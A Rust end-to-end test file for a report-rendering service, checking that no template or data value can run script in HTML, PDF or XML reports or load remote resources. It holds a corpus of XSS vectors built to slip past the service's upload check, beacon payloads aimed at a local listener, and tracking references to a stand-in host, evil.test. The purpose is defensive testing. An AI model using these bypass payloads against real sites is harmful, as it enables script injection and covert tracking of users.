//! Nothing a template or a data row contains runs script in a browser: a corpus of XSS vectors
//! goes through real reports (upload → report → download over HTTP) and every artifact is
//! opened in headless Chromium (`CHROMIUM_PATH`). Each vector's script would record its id in
//! a page global (read over CDP), call a beacon on a local listener and change the title;
//! after the page loads, every link is clicked and every form submitted. No vector may run.
//! The same corpus rendered to PDF by the Chromium renderer must not show script output.
//!
//! Without a browser (issue 30): an html report keeps no reference that loads from elsewhere
//! once saved (finding 4), and an xml report whose rendered output holds script — assembled
//! by the template, so the upload check cannot see it — ends `Error` `report_generation_failed` with the cause `script_detected`
//! with nothing stored, also when its output went to storage in pieces (finding 5).
use crate::common;

use common::cdp::Chromium;
use serde_json::json;
use std::io::{Read, Write};
use std::net::TcpListener;
use std::sync::{Arc, Mutex};
use std::time::Duration;

/// A local HTTP listener: serves artifacts at `/artifact/<n>` (as `text/html`, without the
/// download's CSP, so the sanitized content alone is tested) and records every other path
/// (the beacons).
struct Listener {
    port: u16,
    artifacts: Arc<Mutex<Vec<Vec<u8>>>>,
    hits: Arc<Mutex<Vec<String>>>,
}

fn listen() -> Listener {
    let server = TcpListener::bind("127.0.0.1:0").expect("bind");
    let port = server.local_addr().expect("addr").port();
    let artifacts: Arc<Mutex<Vec<Vec<u8>>>> = Arc::default();
    let hits: Arc<Mutex<Vec<String>>> = Arc::default();
    let (a, h) = (artifacts.clone(), hits.clone());
    std::thread::spawn(move || {
        for stream in server.incoming() {
            let Ok(mut s) = stream else { continue };
            let _ = s.set_read_timeout(Some(Duration::from_secs(2)));
            let mut buf = [0u8; 8192];
            let n = s.read(&mut buf).unwrap_or(0);
            let head = String::from_utf8_lossy(&buf[..n]).to_string();
            let path = head.split_whitespace().nth(1).unwrap_or("/").to_owned();
            let body = match path
                .strip_prefix("/artifact/")
                .and_then(|i| i.parse::<usize>().ok())
            {
                Some(i) => a.lock().unwrap().get(i).cloned().unwrap_or_default(),
                None => {
                    h.lock().unwrap().push(path);
                    Vec::new()
                }
            };
            let _ = s.write_all(
                format!(
                    "HTTP/1.1 200 OK\r\nContent-Type: text/html; charset=utf-8\r\nContent-Length: {}\r\nConnection: close\r\n\r\n",
                    body.len()
                )
                .as_bytes(),
            );
            let _ = s.write_all(&body);
        }
    });
    Listener {
        port,
        artifacts,
        hits,
    }
}

/// What a vector's script does when it runs.
fn payload(id: &str, port: u16) -> String {
    format!(
        "window.__xss=(window.__xss||[]).concat(['{id}']);try{{top.__xss=(top.__xss||[]).concat(['{id}'])}}catch(e){{}}new Image().src='http://127.0.0.1:{port}/hit/{id}';document.title='PWNED {id}';document.body.insertAdjacentText('beforeend','XSS'+'RAN')"
    )
}

/// A payload without spaces (for unquoted attribute values).
fn compact(id: &str) -> String {
    format!("window.__xss=['{id}'];document.title='PWNED'")
}

/// Vectors assembled by the template (each passes the upload check TPL-0032 only because it
/// is split across expressions or entity-encoded there): (id, template body).
fn template_vectors(port: u16) -> Vec<(String, String)> {
    let p = |id: &str| payload(id, port);
    let v = |id: &str, body: String| (id.to_owned(), body);
    vec![
        v(
            "split-script",
            format!(
                r#"{{{{ "<scr"|safe }}}}{{{{ "ipt>{}</scr"|safe }}}}{{{{ "ipt>"|safe }}}}"#,
                p("split-script")
            ),
        ),
        v(
            "mixed-case-script",
            format!(
                r#"{{{{ "<ScR"|safe }}}}{{{{ "iPt>{}</sCr"|safe }}}}{{{{ "IpT>"|safe }}}}"#,
                p("mixed-case-script")
            ),
        ),
        v(
            "concatenated-script",
            format!(
                r#"{{% with s = "<scr" + "ipt>{}</scr" + "ipt>" %}}{{{{ s|safe }}}}{{% endwith %}}"#,
                p("concatenated-script")
            ),
        ),
        v(
            "img-onerror",
            format!(
                r#"{{{{ "<img src=x o"|safe }}}}{{{{ "nerror=\"{}\">"|safe }}}}"#,
                p("img-onerror")
            ),
        ),
        v(
            "body-onload",
            format!(
                r#"{{{{ "<body o"|safe }}}}{{{{ "nload=\"{}\">"|safe }}}}"#,
                p("body-onload")
            ),
        ),
        v(
            "details-ontoggle",
            format!(
                r#"{{{{ "<details open o"|safe }}}}{{{{ "ntoggle=\"{}\">x</details>"|safe }}}}"#,
                p("details-ontoggle")
            ),
        ),
        v(
            "entity-javascript-link",
            format!(
                r#"{{{{ "<a href=\"&#106;ava"|safe }}}}{{{{ "script:{}\">link</a>"|safe }}}}"#,
                p("entity-javascript-link")
            ),
        ),
        v(
            "tab-javascript-link",
            format!(
                r#"{{{{ "<a href=\"java&#x09;scr"|safe }}}}{{{{ "ipt&colon;{}\">link</a>"|safe }}}}"#,
                p("tab-javascript-link")
            ),
        ),
        v(
            "iframe-srcdoc",
            format!(
                r#"{{{{ "<ifr"|safe }}}}{{{{ "ame srcdoc=\"&lt;scr"|safe }}}}{{{{ "ipt&gt;{}&lt;/scr"|safe }}}}{{{{ "ipt&gt;\"></ifr"|safe }}}}{{{{ "ame>"|safe }}}}"#,
                p("iframe-srcdoc")
            ),
        ),
        v(
            "object-data",
            format!(
                r#"{{{{ "<obj"|safe }}}}{{{{ "ect data=\"java"|safe }}}}{{{{ "script:{}\"></obj"|safe }}}}{{{{ "ect>"|safe }}}}"#,
                p("object-data")
            ),
        ),
        v(
            "svg-onload",
            format!(
                r#"{{{{ "<svg o"|safe }}}}{{{{ "nload=\"{}\"></svg>"|safe }}}}"#,
                p("svg-onload")
            ),
        ),
        v(
            "svg-script",
            format!(
                r#"{{{{ "<svg><scr"|safe }}}}{{{{ "ipt>{}</scr"|safe }}}}{{{{ "ipt></svg>"|safe }}}}"#,
                p("svg-script")
            ),
        ),
        v(
            "svg-animate-href",
            format!(
                r#"{{{{ "<svg><a><animate attributeName=href values=java"|safe }}}}{{{{ "script:{} /><text y=20>clickme</text></a></svg>"|safe }}}}"#,
                p("svg-animate-href")
            ),
        ),
        v(
            "mathml-mglyph",
            format!(
                r#"{{{{ "<math><mtext><table><mglyph><style><img src=x o"|safe }}}}{{{{ "nerror=\"{}\">"|safe }}}}"#,
                p("mathml-mglyph")
            ),
        ),
        v(
            "meta-refresh",
            format!(
                r#"{{{{ "<meta http-equiv=\"refresh\" content=\"0;url=java"|safe }}}}{{{{ "script:{}\">"|safe }}}}"#,
                p("meta-refresh")
            ),
        ),
        v(
            "form-action",
            format!(
                r#"{{{{ "<form id=f action=\"java"|safe }}}}{{{{ "script:{}\"><button>go</button></form>"|safe }}}}"#,
                p("form-action")
            ),
        ),
        v(
            "style-breakout",
            format!(
                r#"{{{{ "<style></style><scr"|safe }}}}{{{{ "ipt>{}</scr"|safe }}}}{{{{ "ipt>"|safe }}}}"#,
                p("style-breakout")
            ),
        ),
        v(
            "noscript-breakout",
            format!(
                r#"{{{{ "<noscript><p title=\"</noscript><img src=x o"|safe }}}}{{{{ "nerror={}>\">"|safe }}}}"#,
                compact("noscript-breakout")
            ),
        ),
    ]
}

/// Vectors inside data rows of a data source: (id, raw value).
fn row_vectors(port: u16) -> Vec<(String, String)> {
    let p = |id: &str| payload(id, port);
    vec![
        (
            "row-script".into(),
            format!("<script>{}</script>", p("row-script")),
        ),
        (
            "row-img-onerror".into(),
            format!("<img src=x onerror=\"{}\">", p("row-img-onerror")),
        ),
        (
            "row-javascript-link".into(),
            format!(
                "<a href=\"javascript:{}\">link</a>",
                p("row-javascript-link")
            ),
        ),
        (
            "row-iframe-srcdoc".into(),
            format!(
                "<iframe srcdoc=\"<script>{}</script>\"></iframe>",
                p("row-iframe-srcdoc")
            ),
        ),
        (
            "row-svg-onload".into(),
            format!("<svg onload=\"{}\"></svg>", p("row-svg-onload")),
        ),
        (
            "row-embed".into(),
            format!("<embed src=\"javascript:{}\">", p("row-embed")),
        ),
    ]
}

fn html_of(body: &str) -> String {
    format!(
        "<!DOCTYPE html><html><head><meta charset=\"utf-8\"><title>report</title></head><body><p>Report</p>{body}</body></html>"
    )
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn no_xss_vector_runs_in_a_browser() {
    let Some(chromium) = reporter_contract::services::service_url("CHROMIUM_PATH", "Chromium")
    else {
        return;
    };
    let listener = listen();
    let port = listener.port;
    let dir = tempfile::tempdir().expect("dir");
    let rows: Vec<serde_json::Value> = row_vectors(port)
        .into_iter()
        .map(|(id, v)| json!({"id": id, "v": v}))
        .collect();
    std::fs::write(
        dir.path().join("rows.json"),
        serde_json::to_vec(&rows).unwrap(),
    )
    .unwrap();
    let t = common::start_with(common::Options {
        env: vec![
            ("DATASOURCE_XSS_TYPE".into(), "file".into()),
            (
                "DATASOURCE_XSS_PATH".into(),
                dir.path().display().to_string(),
            ),
        ],
        tweak: Some(|r| {
            r.pdf_renderer = "chromium".into();
        }),
        ..Default::default()
    })
    .await;

    let mut sources: Vec<(String, String)> = template_vectors(port)
        .into_iter()
        .map(|(id, body)| (id, html_of(&body)))
        .collect();
    for (id, _) in row_vectors(port) {
        sources.push((
            id.clone(),
            html_of(&format!(
                "{{% for r in xss.rows %}}{{% if r.id == \"{id}\" %}}{{{{ r.v|safe }}}}|{{{{ r.v }}}}{{% endif %}}{{% endfor %}}"
            )),
        ));
    }
    let mut browser = Chromium::launch(&chromium).await;
    let mut ran = Vec::new();
    let mut pdf_sources = String::new();
    for (i, (id, source)) in sources.iter().enumerate() {
        let tpl = t.upload_template("html", source).await;
        let report = t.request_report(&tpl, json!({})).await;
        let r = t.wait_report(&report, 600).await;
        assert_eq!(r["status"], "Finished", "{id}: {r}");
        let resp = t
            .get(&common::token(), &format!("/v1/reports/{report}/download"))
            .await;
        let csp = resp.0.headers().get("content-security-policy").cloned();
        let bytes = resp.0.into_body().into_vec().await.expect("artifact");
        let csp = csp.expect("an html download carries a CSP");
        let csp = csp.to_str().unwrap_or_default();
        assert!(
            csp.contains("script-src 'none'") && csp.contains("sandbox"),
            "{csp}"
        );
        listener.artifacts.lock().unwrap().push(bytes);
        let session = browser
            .open(&format!("http://127.0.0.1:{port}/artifact/{i}"))
            .await;
        for _ in 0..100 {
            if browser.eval(&session, "document.readyState").await == "complete" {
                break;
            }
            tokio::time::sleep(Duration::from_millis(50)).await;
        }
        tokio::time::sleep(Duration::from_millis(300)).await;
        // What a person might do: follow every link, submit every form, open every details.
        browser
            .eval(
                &session,
                "(() => { try { document.querySelectorAll('a').forEach(a => a.click()); \
                 document.querySelectorAll('form').forEach(f => f.requestSubmit ? f.requestSubmit() : f.submit()); \
                 document.querySelectorAll('details').forEach(d => d.open = !d.open); } catch (e) {} return true })()",
            )
            .await;
        tokio::time::sleep(Duration::from_millis(300)).await;
        let seen = browser
            .eval(
                &session,
                "JSON.stringify({xss: window.__xss || null, title: document.title})",
            )
            .await;
        let seen: serde_json::Value =
            serde_json::from_str(seen.as_str().unwrap_or("{}")).unwrap_or_default();
        if !seen["xss"].is_null() || seen["title"].as_str().unwrap_or_default().contains("PWNED") {
            ran.push(format!("{id}: {seen}"));
        }
        pdf_sources.push_str(
            source
                .split("<body>")
                .nth(1)
                .unwrap_or_default()
                .trim_end_matches("</body></html>"),
        );
    }
    tokio::time::sleep(Duration::from_millis(500)).await;
    let hits = listener.hits.lock().unwrap().clone();
    eprintln!(
        "{} vectors opened in Chromium: {}",
        sources.len(),
        sources
            .iter()
            .map(|(id, _)| id.as_str())
            .collect::<Vec<_>>()
            .join(", ")
    );
    assert!(ran.is_empty(), "script ran: {ran:#?}");
    assert!(
        !hits.iter().any(|h| h.starts_with("/hit/")),
        "a vector's script called the beacon: {hits:?}"
    );

    // The whole corpus as one PDF through the Chromium renderer: no script output in it.
    let tpl = t.upload_template("pdf", &html_of(&pdf_sources)).await;
    let report = t.request_report(&tpl, json!({})).await;
    let r = t.wait_report(&report, 1200).await;
    assert_eq!(r["status"], "Finished", "pdf: {r}");
    let resp = t
        .get(&common::token(), &format!("/v1/reports/{report}/download"))
        .await;
    assert!(resp.0.headers().get("content-security-policy").is_none());
    let pdf = resp.0.into_body().into_vec().await.expect("pdf");
    assert!(pdf.starts_with(b"%PDF-"));
    let file = tempfile::NamedTempFile::new().unwrap();
    std::fs::write(file.path(), &pdf).unwrap();
    match std::process::Command::new("pdftotext")
        .arg(file.path())
        .arg("-")
        .output()
    {
        Ok(out) => {
            let text = String::from_utf8_lossy(&out.stdout);
            assert!(text.contains("Report"), "{text}");
            assert!(
                !text.contains("XSSRAN"),
                "script ran in the PDF renderer: {text}"
            );
        }
        Err(e) => eprintln!("pdftotext not available ({e}); the PDF text was not checked"),
    }
}

/// Downloads report `id`'s artifact as text (the report must have finished).
async fn downloaded(t: &common::TestApp, id: &str) -> String {
    let resp = t
        .get(&common::token(), &format!("/v1/reports/{id}/download"))
        .await;
    assert_eq!(resp.0.status(), poem::http::StatusCode::OK);
    let bytes = resp.0.into_body().into_vec().await.expect("artifact");
    String::from_utf8(bytes).expect("UTF-8 artifact")
}

/// Issue 30, finding 4: the references of an html report that would load from elsewhere
/// when the saved report is opened (a logger at `evil.test` would learn the report was
/// opened, and what the URLs carry). Split or escaped where the template allows it.
const REMOTE_REFERENCES: &str = r#"<img src="http://evil.test/1.png?d={{ "data" }}">
{{ "<img src=ht"|safe }}{{ "tps://evil.test/2.png>"|safe }}
<img src="evil-relative.png">
<style>
@import url(http://evil.test/3.css);
@\69mport "http://evil.test/4.css";
@font-face { font-family: f; src: url(https://evil.test/5.woff2) format("woff2") }
body { background: u\72l(http://evil.test/6.png) }
td { background-image: image-set("https://evil.test/7.png" 1x) }
</style>
<p style="background: url('//evil.test/8.png')">styled</p>
<img src="data:image/png;base64,iVBORw0KGgo=" alt="inline">"#;

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn finding4_html_reports_load_nothing_from_elsewhere() {
    let t = common::start().await;
    let tpl = t.upload_template("html", &html_of(REMOTE_REFERENCES)).await;
    let report = t.request_report(&tpl, json!({})).await;
    let r = t.wait_report(&report, 600).await;
    assert_eq!(r["status"], "Finished", "{r}");
    let html = downloaded(&t, &report).await;
    assert!(
        !html.contains("evil"),
        "a remote reference survived:\n{html}"
    );
    for kept in [
        r#"src="data:image/png;base64,iVBORw0KGgo=""#,
        "@import none;",
        "body { background: none }",
        r#"<p style="background: none">styled</p>"#,
    ] {
        assert!(html.contains(kept), "lost {kept}:\n{html}");
    }
}

/// `REPORT_HTML_ALLOWED_ORIGINS` reaches the sanitizer in the render process: references to
/// the listed origin stay, others do not.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn finding4_listed_origins_may_load() {
    let t = common::start_with(common::Options {
        tweak: Some(|r| r.report_html_allowed_origins = "https://cdn.example.com".into()),
        ..Default::default()
    })
    .await;
    let body = r#"<img src="https://cdn.example.com/logo.png"><img src="https://evil.test/x.png">
<style>@font-face { font-family: f; src: url(https://cdn.example.com/f.woff2) } p { background: url(https://evil.test/p.png) }</style>"#;
    let tpl = t.upload_template("html", &html_of(body)).await;
    let report = t.request_report(&tpl, json!({})).await;
    let r = t.wait_report(&report, 600).await;
    assert_eq!(r["status"], "Finished", "{r}");
    let html = downloaded(&t, &report).await;
    assert!(!html.contains("evil"), "{html}");
    assert!(
        html.contains(r#"<img src="https://cdn.example.com/logo.png">"#),
        "{html}"
    );
    assert!(
        html.contains("url(https://cdn.example.com/f.woff2)"),
        "{html}"
    );
}

/// Issue 30, finding 5: XML templates whose script passes the upload check (TPL-0032) only
/// because the source splits or encodes it; rendered, each is script in an XHTML or SVG
/// document opened from disk: (id, template).
fn xml_script_vectors() -> Vec<(&'static str, String)> {
    let xhtml = |body: &str| {
        format!(
            "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<html xmlns=\"http://www.w3.org/1999/xhtml\"><body><p>{{{{ \"Report\" }}}}</p>{body}</body></html>"
        )
    };
    vec![
        (
            "split-script",
            xhtml(
                r#"{% autoescape off %}{{ "<scr" }}ipt>alert(1){{ "</scr" }}ipt>{% endautoescape %}"#,
            ),
        ),
        (
            "split-script-safe",
            xhtml(r#"{{ "<scr"|safe }}{{ "ipt>alert(1)</scr"|safe }}{{ "ipt>"|safe }}"#),
        ),
        (
            "prefixed-script",
            r#"<?xml version="1.0"?><r xmlns:h="http://www.w3.org/1999/xhtml">{{ "<h:scr"|safe }}ipt>alert(1)</h:script></r>"#.to_owned(),
        ),
        (
            "svg-onload",
            r#"<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" {{ "o" }}nload="alert(1)"><text>x</text></svg>"#.to_owned(),
        ),
        (
            "svg-javascript-link",
            r#"<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><a xlink:href="java{{ "script" }}:alert(1)"><text>x</text></a></svg>"#.to_owned(),
        ),
        (
            "svg-set-handler",
            r#"<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><set attributeName="&#111;nclick" to="alert(1)"/></svg>"#.to_owned(),
        ),
        (
            "iframe",
            xhtml(r#"{{ "<ifr"|safe }}ame src="data:text/html,x"></iframe>"#),
        ),
        (
            "xslt",
            r##"<?xml version="1.0"?>{{ "<?xml-sty"|safe }}lesheet type="text/xsl" href="#s"?><r/>"##.to_owned(),
        ),
        (
            "entity",
            r#"<?xml version="1.0"?><!DOCTYPE r [{{ "<!ENT"|safe }}ITY s "&#60;p/&#62;">]><r>&s;</r>"#.to_owned(),
        ),
    ]
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn finding5_script_in_a_rendered_xml_report_ends_it_error() {
    let t = common::start().await;
    for (id, source) in xml_script_vectors() {
        let tpl = t.upload_template("xml", &source).await;
        let report = t.request_report(&tpl, json!({})).await;
        let r = t.wait_report(&report, 600).await;
        assert_eq!(r["status"], "Error", "{id}: {r}");
        assert_eq!(
            r["metadata"]["error_code"], "report_generation_failed",
            "{id}: {r}"
        );
        assert_eq!(
            r["metadata"]["render_error"]["cause"], "script_detected",
            "{id}: {r}"
        );
        let resp = t
            .get(&common::token(), &format!("/v1/reports/{report}/download"))
            .await;
        assert_ne!(resp.0.status(), poem::http::StatusCode::OK, "{id}");
        let stored = t
            .app
            .ports()
            .storage
            .get(&format!("reports/{tpl}/{report}.xml"))
            .await
            .expect("object storage");
        assert!(stored.is_none(), "{id}: an artifact was stored");
    }
    // An XHTML report without script is stored as written.
    let clean = "<?xml version=\"1.0\"?>\n<html xmlns=\"http://www.w3.org/1999/xhtml\"><body><p title=\"{{ \"on\" }}\">online=yes</p></body></html>";
    let tpl = t.upload_template("xml", clean).await;
    let report = t.request_report(&tpl, json!({})).await;
    let r = t.wait_report(&report, 600).await;
    assert_eq!(r["status"], "Finished", "{r}");
    assert!(
        downloaded(&t, &report)
            .await
            .contains("<p title=\"on\">online=yes</p>")
    );
    // The stored key the refusals above were looked up under.
    let stored = t
        .app
        .ports()
        .storage
        .get(&format!("reports/{tpl}/{report}.xml"))
        .await
        .expect("object storage");
    assert!(
        stored.is_some(),
        "the artifact key is reports/<tpl>/<id>.xml"
    );
}

/// Where the pieces test below keeps its artifacts (`fs` object storage).
fn xml_pieces_root() -> std::path::PathBuf {
    std::env::temp_dir().join(format!("reporter-e2e-xml-pieces-{}", std::process::id()))
}

/// The uploads counted with `outcome` in the `/metrics` text.
fn uploads(metrics: &str, outcome: &str) -> f64 {
    let series = format!("reporter_artifact_uploads_total{{outcome=\"{outcome}\"}}");
    metrics
        .lines()
        .find_map(|l| l.strip_prefix(series.as_str())?.trim().parse().ok())
        .unwrap_or(0.0)
}

/// Finding 5 where the output goes to storage in pieces (`fs` storage): an event handler in
/// the second piece of a tag opened in the first is found; the upload is aborted, nothing
/// is stored. The same output without the handler is committed.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn finding5_script_split_between_pieces_is_found() {
    let root = xml_pieces_root();
    let t = common::start_with(common::Options {
        tweak: Some(|r| {
            r.object_storage_backend = "fs".into();
            r.object_storage_path = xml_pieces_root().display().to_string();
        }),
        ..Default::default()
    })
    .await;
    // No XML declaration (after one the rest of the output comes whole); a first line of
    // 300 000 bytes ends the first piece inside the <svg> tag.
    let source = |handler: &str| {
        format!(
            "<svg xmlns=\"http://www.w3.org/2000/svg\"{{{{ \"\"|center:300000 }}}}\n {{{{ \"{handler}\" }}}}=\"alert(1)\"><text>x</text></svg>\n"
        )
    };
    let before = t.metrics().await;
    let tpl = t.upload_template("xml", &source("o\" + \"nload")).await;
    let id = t.request_report(&tpl, json!({})).await;
    let r = t.wait_report(&id, 600).await;
    assert_eq!(r["status"], "Error", "{r}");
    assert_eq!(
        r["metadata"]["error_code"], "report_generation_failed",
        "{r}"
    );
    assert_eq!(
        r["metadata"]["render_error"]["cause"], "script_detected",
        "{r}"
    );
    let stored = t
        .app
        .ports()
        .storage
        .get(&format!("reports/{tpl}/{id}.xml"))
        .await
        .expect("object storage");
    assert!(stored.is_none(), "an artifact was stored");
    let mut after = t.metrics().await;
    for _ in 0..50 {
        if uploads(&after, "aborted") > uploads(&before, "aborted") {
            break;
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
        after = t.metrics().await;
    }
    assert_eq!(
        uploads(&after, "aborted") - uploads(&before, "aborted"),
        1.0,
        "the output went to storage in pieces, then was aborted"
    );
    // Without the handler: written in pieces and committed.
    let tpl = t.upload_template("xml", &source("data-x")).await;
    let id = t.request_report(&tpl, json!({})).await;
    let r = t.wait_report(&id, 600).await;
    assert_eq!(r["status"], "Finished", "{r}");
    let committed = t.metrics().await;
    assert_eq!(
        uploads(&committed, "committed") - uploads(&after, "committed"),
        1.0
    );
    assert!(
        downloaded(&t, &id)
            .await
            .contains("\n data-x=\"alert(1)\">")
    );
    drop(t);
    let _ = std::fs::remove_dir_all(&root);
}

/// The `<head>` element of a document as written, from `<head` to `</head>`.
fn head_of(html: &str) -> &str {
    let start = html.find("<head").expect("a <head>");
    let end = html.find("</head>").expect("a </head>") + "</head>".len();
    &html[start..end]
}

/// A server with the example data set (`examples/data/bank`) as data source `bank`.
async fn with_example_data() -> common::TestApp {
    let bank = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("examples/data/bank");
    common::start_with(common::Options {
        env: vec![
            ("DATASOURCE_BANK_TYPE".into(), "file".into()),
            ("DATASOURCE_BANK_PATH".into(), bank.display().to_string()),
        ],
        ..Default::default()
    })
    .await
}

/// Issue 33, item 5: an html report is the document its template wrote — the example
/// statement, rendered over HTTP, keeps its doctype and `<head>` (charset, title, style) byte
/// for byte, in place, with no second charset, and character references stay as written.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn html_reports_keep_their_document() {
    let t = with_example_data().await;
    let tpl = t.upload_template("html", common::STATEMENT_TPL).await;
    let report = t.request_report(&tpl, json!({})).await;
    let r = t.wait_report(&report, 600).await;
    assert_eq!(r["status"], "Finished", "{r}");
    let html = downloaded(&t, &report).await;
    assert!(
        html.starts_with("<!DOCTYPE html>\n<html lang=\"en\">\n<head>"),
        "{html}"
    );
    assert_eq!(head_of(&html), head_of(common::STATEMENT_TPL));
    assert_eq!(html.matches("charset").count(), 1, "{html}");
    assert!(html.contains("<td class=\"amount\">"), "{html}");
    assert!(html.trim_end().ends_with("</body>\n</html>"), "{html}");

    let source = "<!DOCTYPE html>\n<html><head><meta charset=\"utf-8\"><title>&#x2605; Extrato</title></head>\n<body><p>&#x2605; {{ \"a\" }} &amp; &eacute;</p></body></html>\n";
    let tpl = t.upload_template("html", source).await;
    let report = t.request_report(&tpl, json!({})).await;
    let r = t.wait_report(&report, 600).await;
    assert_eq!(r["status"], "Finished", "{r}");
    assert_eq!(
        downloaded(&t, &report).await,
        source.replace("{{ \"a\" }}", "a")
    );
}

/// Issue 33, item 5: the report renders as its author meant — opened in Chromium, the
/// template's `<style>` applies (computed styles), its title and single charset are in the
/// head, and nothing of the head moved to the body.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn html_report_styles_apply_in_a_browser() {
    let Some(chromium) = reporter_contract::services::service_url("CHROMIUM_PATH", "Chromium")
    else {
        return;
    };
    let listener = listen();
    let t = with_example_data().await;
    let source = common::STATEMENT_TPL.replace(
        "td.amount { text-align: right; }",
        "td.amount { text-align: right; color: rgb(1, 2, 3); }\n    h1::after { content: \" \\2605\"; }",
    );
    assert_ne!(source, common::STATEMENT_TPL, "the example's style changed");
    let tpl = t.upload_template("html", &source).await;
    let report = t.request_report(&tpl, json!({})).await;
    let r = t.wait_report(&report, 600).await;
    assert_eq!(r["status"], "Finished", "{r}");
    let html = downloaded(&t, &report).await;
    listener.artifacts.lock().unwrap().push(html.into_bytes());
    let mut browser = Chromium::launch(&chromium).await;
    let session = browser
        .open(&format!("http://127.0.0.1:{}/artifact/0", listener.port))
        .await;
    for _ in 0..100 {
        if browser.eval(&session, "document.readyState").await == "complete" {
            break;
        }
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    let seen = browser
        .eval(
            &session,
            "JSON.stringify({\
               title: document.title, \
               headStyles: document.head.querySelectorAll('style').length, \
               bodyStyles: document.body.querySelectorAll('style, title, meta').length, \
               charsets: document.querySelectorAll('meta[charset]').length, \
               charset: document.characterSet, \
               amountAlign: getComputedStyle(document.querySelector('td.amount')).textAlign, \
               amountColor: getComputedStyle(document.querySelector('td.amount')).color, \
               collapse: getComputedStyle(document.querySelector('table')).borderCollapse, \
               bodyFont: getComputedStyle(document.body).fontFamily, \
               after: getComputedStyle(document.querySelector('h1'), '::after').content})",
        )
        .await;
    let seen: serde_json::Value =
        serde_json::from_str(seen.as_str().unwrap_or("{}")).unwrap_or_default();
    assert_eq!(
        seen,
        json!({
            "title": "Account statements",
            "headStyles": 1,
            "bodyStyles": 0,
            "charsets": 1,
            "charset": "UTF-8",
            "amountAlign": "right",
            "amountColor": "rgb(1, 2, 3)",
            "collapse": "collapse",
            "bodyFont": "sans-serif",
            "after": "\" ★\"",
        })
    );
}
